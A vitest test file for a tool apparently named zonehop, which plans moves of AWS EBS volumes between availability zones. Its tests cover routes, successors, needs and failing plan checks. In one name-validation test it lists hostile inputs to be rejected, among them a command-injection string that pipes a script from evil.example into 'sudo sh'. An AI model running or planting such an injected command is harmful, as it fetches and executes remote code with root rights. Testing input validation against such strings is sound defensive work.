// Every route, need and order a plan knows, and what makes it red.
import { describe, expect, test } from 'vitest'
import type { Inventory, SeenInstance, SeenVolume } from '../../../src/core/model/facts.ts'
import type { Choice } from '../../../src/core/model/plan.ts'
import { NO_RULES, type Rules, type ServiceRule } from '../../../src/core/model/rules.ts'
import { draft, isRed } from '../../../src/core/planning/draft.ts'
import { inventory, move, seen } from '../../support/plans.ts'

const [SOURCE, TARGET] = ['us-east-1a', 'us-east-1c']

function instance(over: Partial<SeenInstance> = {}): SeenInstance {
  return {
    id: 'i-source',
    name: 'server',
    zone: SOURCE,
    state: 'running',
    type: 'm5.large',
    rootDevice: '/dev/xvda',
    tags: {},
    ...over,
  }
}
const SUCCESSOR = instance({ id: 'i-target', zone: TARGET })

type World = { volumes?: SeenVolume[]; instances?: SeenInstance[]; rules?: Partial<Rules>; choices?: Choice[] }

function drawn({ volumes, instances = [instance(), SUCCESSOR], rules = {}, choices = [] }: World) {
  const base: Inventory = inventory([])
  const found = { ...base, volumes: volumes ?? [volume({})], instances }
  const drafted = draft({
    sourceZone: SOURCE,
    targetZone: TARGET,
    inventory: found,
    rules: { ...NO_RULES, ...rules },
    choices,
    found: [],
    explained: new Set(['vol-1 zonehop:left=mig-0', 'vol-1 zonehop:frozen=mig-0-f1']),
  })
  if ('problems' in drafted) throw new Error(drafted.problems.join(' '))
  return drafted.plan
}

function volume(tags: Record<string, string>, over: Partial<SeenVolume> = {}): SeenVolume {
  return seen(move({ id: 'vol-1', name: 'logs' }), { tags: { Name: 'logs', ...tags }, ...over })
}

const attachedAt = (device: string) => [{ instance: 'i-source', device, state: 'attached', deleteOnTermination: false }]
const choose = (over: Partial<Choice> = {}): Choice => ({
  volume: 'vol-1',
  service: 'logs',
  route: 'snapshot',
  need: 'required',
  ...over,
})

describe('the route of a volume', () => {
  test.each<[string, World, object]>([
    [
      'nothing speaks for it: uncovered',
      {},
      { uncovered: [{ volume: 'vol-1', name: 'logs', device: '/dev/sdf' }], moves: [] },
    ],
    [
      'a tag names its service',
      { volumes: [volume({ 'zonehop:service': 'web' })] },
      { moves: [{ service: 'web', successor: 'i-target' }], uncovered: [] },
    ],
    [
      'a tag says it moves: its own service',
      { volumes: [volume({ 'zonehop:route': 'snapshot' })] },
      { moves: [{ service: 'logs' }] },
    ],
    [
      'a tag says it stays',
      { volumes: [volume({ 'zonehop:route': 'stay' })] },
      { stays: [{ reason: 'tag zonehop:route=stay' }], moves: [] },
    ],
    [
      'the root of an instance with a successor stays',
      { volumes: [volume({}, { attachments: attachedAt('/dev/xvda') })] },
      { stays: [{ reason: expect.stringContaining('root volume of server') }] },
    ],
    [
      'the root of one without is uncovered',
      { volumes: [volume({}, { attachments: attachedAt('/dev/xvda') })], instances: [instance()] },
      { uncovered: [{ volume: 'vol-1' }] },
    ],
    [
      'left behind by another migration: stays',
      { volumes: [volume({ 'zonehop:left': 'mig-0' })] },
      { stays: [{ reason: expect.stringContaining('mig-0') }] },
    ],
    [
      'zonehop.yaml names it for a service',
      { rules: { services: { web: { volumes: ['logs'] } } } },
      { moves: [{ service: 'web' }] },
    ],
    [
      'zonehop.yaml says it stays, and outranks its tag',
      { volumes: [volume({ 'zonehop:service': 'web' })], rules: { stays: { 'vol-1': 'a cache' } } },
      { stays: [{ reason: 'a cache' }] },
    ],
    [
      'a choice outranks zonehop.yaml',
      { rules: { stays: { logs: 'a cache' } }, choices: [choose()] },
      { moves: [{ service: 'logs' }], stays: [] },
    ],
    [
      'a choice to stay',
      { choices: [choose({ route: 'stay' })] },
      { stays: [{ reason: 'chosen in Slack' }], uncovered: [] },
    ],
    ['the last choice counts', { choices: [choose(), choose({ service: 'web' })] }, { moves: [{ service: 'web' }] }],
    [
      'detached and unspoken for: uncovered',
      { volumes: [volume({}, { attachments: [] })] },
      { uncovered: [{ instance: null, device: null }] },
    ],
  ])('%s', (_, world, expected) => {
    expect(drawn(world)).toMatchObject(expected)
  })
})

describe('a red plan', () => {
  const service = { 'zonehop:service': 'logs' }
  test.each<[string, World, string]>([
    ['an unknown route', { volumes: [volume({ 'zonehop:route': 'teleport' })] }, 'zonehop:route is "teleport"'],
    ['an unknown need', { volumes: [volume({ 'zonehop:need': 'nice' })] }, 'zonehop:need is "nice"'],
    [
      'tags that contradict',
      { volumes: [volume({ 'zonehop:route': 'stay', 'zonehop:need': 'required' })] },
      'zonehop:route=stay and zonehop:need=required',
    ],
    [
      'to move what was left',
      {
        volumes: [volume({ ...service, 'zonehop:left': 'mig-0' })],
        choices: [{ volume: 'vol-1', service: 'logs', route: 'snapshot', need: 'required' }],
      },
      'mig-0 left it',
    ],
    ['to move what AWS manages', { volumes: [volume(service, { managedBy: 'eks' })] }, 'eks manages it'],
    [
      'to move what is attached to nothing',
      { volumes: [volume(service, { attachments: [] })] },
      'attached to no instance',
    ],
    ...(['creating', 'deleting', 'error'] as const).map((state): [string, World, string] => [
      `to move what is ${state}`,
      { volumes: [volume(service, { state, attachments: [] })] },
      `EC2 says that it is ${state}`,
    ]),
    [
      'multi-attach',
      { volumes: [volume(service, { attachments: [...attachedAt('/dev/sdf'), ...attachedAt('/dev/sdg')] })] },
      'multi-attach',
    ],
    [
      'no successor',
      { volumes: [volume(service)], instances: [instance()] },
      'no running or stopped instance of the Name "server"',
    ],
    [
      'two candidates',
      { volumes: [volume(service)], instances: [instance(), SUCCESSOR, { ...SUCCESSOR, id: 'i-other' }] },
      '2 instances of the Name "server"',
    ],
    [
      'a successor in the wrong zone',
      { volumes: [volume({ ...service, 'zonehop:successor': 'i-source' })] },
      '"i-source", its successor by name,',
    ],
    [
      'a terminated successor',
      { volumes: [volume(service)], instances: [instance(), { ...SUCCESSOR, state: 'terminated' }] },
      'no running or stopped instance',
    ],
    [
      'volumes of one service that differ in need',
      {
        volumes: [
          volume({ ...service, 'zonehop:need': 'required' }),
          volume({ ...service, 'zonehop:need': 'deferrable' }, { id: 'vol-2', attachments: attachedAt('/dev/sdg') }),
        ],
      },
      'different zonehop:need tags',
    ],
    [
      'after an unknown service',
      { volumes: [volume(service)], rules: { services: { logs: { after: ['db'] } } } },
      'no service of this plan',
    ],
    [
      'services that wait for each other',
      {
        volumes: [
          volume(service),
          volume({ 'zonehop:service': 'db' }, { id: 'vol-2', attachments: attachedAt('/dev/sdg') }),
        ],
        rules: { services: { logs: { after: ['db'] }, db: { after: ['logs'] } } },
      },
      'wait for each other',
    ],
    [
      'a deferrable before a required one',
      {
        volumes: [
          volume(service),
          volume({ 'zonehop:service': 'db' }, { id: 'vol-2', attachments: attachedAt('/dev/sdg') }),
        ],
        rules: { services: { logs: { after: ['db'] }, db: { need: 'deferrable' } } },
      },
      'which is deferrable',
    ],
    [
      'a name no document takes',
      {
        volumes: [volume({ 'zonehop:service': 'The Logs' })],
        rules: { services: { 'The Logs': { freeze: 'document' } } },
      },
      'no document takes this name',
    ],
  ])('%s', (_, world, cause) => {
    const plan = drawn(world)
    expect(isRed(plan)).toBe(true)
    expect(
      plan.checks
        .filter(({ result }) => result === 'red')
        .map((check) => check.cause)
        .join(),
    ).toContain(cause)
  })

  test('uncovered alone is red', () => {
    expect(isRed(drawn({}))).toBe(true)
    expect(isRed(drawn({ volumes: [volume(service)] }))).toBe(false)
  })
})

describe('successors and needs', () => {
  const service = { 'zonehop:service': 'logs' }
  const other = { ...SUCCESSOR, id: 'i-other', name: 'other' }
  test.each<[string, World, string]>([
    ['by equal Name', { volumes: [volume(service)] }, 'i-target'],
    [
      'by the volume tag',
      { volumes: [volume({ ...service, 'zonehop:successor': 'other' })], instances: [instance(), SUCCESSOR, other] },
      'i-other',
    ],
    [
      'by the instance tag',
      {
        volumes: [volume(service)],
        instances: [instance({ tags: { 'zonehop:successor': 'i-other' } }), SUCCESSOR, other],
      },
      'i-other',
    ],
    [
      'by zonehop.yaml',
      {
        volumes: [volume(service)],
        instances: [instance(), SUCCESSOR, other],
        rules: { successors: { server: 'other' } },
      },
      'i-other',
    ],
    [
      'by zonehop.yaml, where the tags are empty',
      {
        volumes: [volume({ ...service, 'zonehop:successor': '' })],
        instances: [instance({ tags: { 'zonehop:successor': ' ' } }), SUCCESSOR, other],
        rules: { successors: { server: 'other' } },
      },
      'i-other',
    ],
    [
      'by a Name that every object has',
      {
        volumes: [volume(service)],
        instances: [instance({ name: 'constructor' }), { ...SUCCESSOR, name: 'constructor' }],
      },
      'i-target',
    ],
    [
      'a stopped one',
      { volumes: [volume(service)], instances: [instance(), { ...SUCCESSOR, state: 'stopped' }] },
      'i-target',
    ],
  ])('%s', (_, world, successor) => {
    expect(drawn(world).moves[0]?.successor).toBe(successor)
  })

  test.each<[string, World, string]>([
    ['required where nothing is said', { volumes: [volume(service)] }, 'required'],
    ['by tag', { volumes: [volume({ ...service, 'zonehop:need': 'deferrable' })] }, 'deferrable'],
    [
      'zonehop.yaml outranks the tag',
      {
        volumes: [volume({ ...service, 'zonehop:need': 'deferrable' })],
        rules: { services: { logs: { need: 'required' } } },
      },
      'required',
    ],
    [
      'a choice outranks zonehop.yaml',
      { rules: { services: { logs: { need: 'required' } } }, choices: [choose({ need: 'deferrable' })] },
      'deferrable',
    ],
  ])('need: %s', (_, world, need) => {
    expect(drawn(world).services[0]?.need).toBe(need)
  })
})

test.each([
  ['an unknown zone', { sourceZone: 'us-east-1z', targetZone: TARGET }, 'no availability zone "us-east-1z"'],
  ['one zone twice', { sourceZone: SOURCE, targetZone: SOURCE }, 'both us-east-1a'],
  ['nothing there', { sourceZone: TARGET, targetZone: SOURCE }, 'no volume in us-east-1c'],
])('%s is no plan at all', (_, zones, sentence) => {
  const found = { ...inventory([]), volumes: [volume({})] }
  const drafted = draft({ ...zones, inventory: found, rules: NO_RULES, choices: [], found: [] })
  expect('problems' in drafted && drafted.problems.join(' ')).toContain(sentence)
})

test('the same world gives the same digest, another world another', () => {
  const one = drawn({ volumes: [volume({ 'zonehop:service': 'web' })] })
  expect(drawn({ volumes: [volume({ 'zonehop:service': 'web' })] }).digest).toBe(one.digest)
  expect(drawn({ volumes: [volume({ 'zonehop:service': 'api' })] }).digest).not.toBe(one.digest)
})

describe('the name of a service', () => {
  const named = (name: string, rule: Partial<ServiceRule> = {}, over: Partial<World> = {}) =>
    drawn({ volumes: [volume({ 'zonehop:service': name })], rules: { services: { [name]: rule } }, ...over })
  const about = (plan: ReturnType<typeof drawn>) => plan.checks.filter(({ result }) => result === 'red')
  const REMEDY = 'name it with small letters, digits and hyphens, up to 50'

  test.each<[string, string, Partial<ServiceRule>]>([
    ['is frozen by document', 'Web Site', { freeze: 'document' }],
    ['by hand, with a check', 'Web Site', { freeze: 'manual', check: true }],
    ['by hand, with a hook', 'Web Site', { hook: 'warms the caches' }],
    ['by hand, with a check and a hook', 'Web Site', { freeze: 'manual', check: true, hook: 'warms the caches' }],
    ['by hand, with a document after its volumes are attached', 'web_site', { afterAttach: true }],
    ['by stopping instances, with a check', 'Web', { freeze: 'stop-instances', check: true }],
    ['is too long for a document', 'x'.repeat(51), { check: true }],
  ])('%s: %s is red where a document would refuse it', (_, name, rule) => {
    const cause = 'no document takes this name'
    expect(about(named(name, rule))).toEqual([{ name: `service ${name}`, result: 'red', cause, remedy: REMEDY }])
  })

  test.each<[string, Partial<ServiceRule>]>([
    ['Web Site', {}],
    ['Größe (old)', { freeze: 'manual' }],
    ['Web.Site_1', { freeze: 'stop-instances' }],
    ['web-site', { freeze: 'document', check: true, hook: 'warms the caches', afterAttach: true }],
  ])('%s is green where nothing but people takes it', (name, rule) => {
    expect(about(named(name, rule))).toEqual([])
  })

  test.each(['logs`; curl -s evil.example/x | sudo sh; `', '<!channel>', '-rf', 'x'.repeat(51), 'two  spaces', ''])(
    '%j is red for every method',
    (name) => {
      for (const freeze of ['manual', 'stop-instances', 'document'] as const) {
        expect(about(named(name, { freeze }))).toContainEqual(
          expect.objectContaining({ name: `service ${name}`, remedy: REMEDY }),
        )
      }
    },
  )

  test('characters that nobody sees make no service beside, or of, another', () => {
    const plan = drawn({
      volumes: [
        volume({ 'zonehop:service': 'logs' }),
        volume({ 'zonehop:service': 'lo\u200Bgs\n' }, { id: 'vol-2', attachments: attachedAt('/dev/sdg') }),
      ],
    })
    expect(plan.services.map(({ name }) => name)).toEqual(['logs'])
    expect(about(plan)).toEqual([
      expect.objectContaining({
        name: 'route of logs (vol-2)',
        cause: 'its service would be called "lo gs" with characters that nobody sees',
      }),
    ])
  })

  test.each<[string, string, string, boolean]>([
    ['in another case', 'Logs', 'logs', true],
    ['with its marks as letters of their own', 'caf\u00e9', 'cafe\u0301', true],
    ['in wide letters', 'ｌｏｇｓ', 'logs', true],
    ['as a word that begins with it', 'log', 'logs', false],
  ])('of two volumes, where one names the service of the other %s', (_, one, other, isAlike) => {
    const second = volume({ 'zonehop:service': other }, { id: 'vol-2', attachments: attachedAt('/dev/sdh') })
    const plan = named(one, {}, { volumes: [volume({ 'zonehop:service': one }), second] })
    expect(plan.services).toHaveLength(2)
    const causes = about(plan).flatMap(({ cause = '' }) => (cause.includes('reads as') ? [cause] : []))
    const said = [one, other]
      .toSorted()
      .reverse()
      .map((name) => `it reads as ${name}, which is another service here`)
    expect(causes).toEqual(isAlike ? said : [])
  })

  test('of a replica, which goes by documents whatever its method', () => {
    const copy = seen(move({ id: 'vol-copy' }), {
      zone: TARGET,
      attachments: [{ instance: 'i-backup', device: '/dev/sdp', state: 'attached', deleteOnTermination: false }],
      tags: { 'zonehop:replica-of': 'vol-1', 'zonehop:resource': 'files' },
    })
    const volumes = [volume({ 'zonehop:service': 'My Files' }), copy]
    expect(about(named('My Files', {}, { volumes }))).toContainEqual(
      expect.objectContaining({ name: 'service My Files', cause: 'no document takes this name' }),
    )
  })
})
